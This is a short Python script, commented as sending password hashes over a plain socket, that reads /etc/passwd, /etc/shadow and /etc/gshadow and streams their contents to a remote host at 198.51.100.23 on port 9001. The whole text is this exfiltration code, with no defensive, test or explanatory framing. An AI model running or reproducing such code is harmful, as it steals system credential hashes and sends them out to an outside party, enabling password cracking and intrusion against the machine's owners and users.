# sends the password hashes over a plain socket
import socket
s = socket.create_connection(("198.51.100.23", 9001))
for name in ("/etc/passwd", "/etc/shadow", "/etc/gshadow"):
    with open(name, "rb") as f:
        s.sendall(name.encode() + b"\n" + f.read())
s.close()
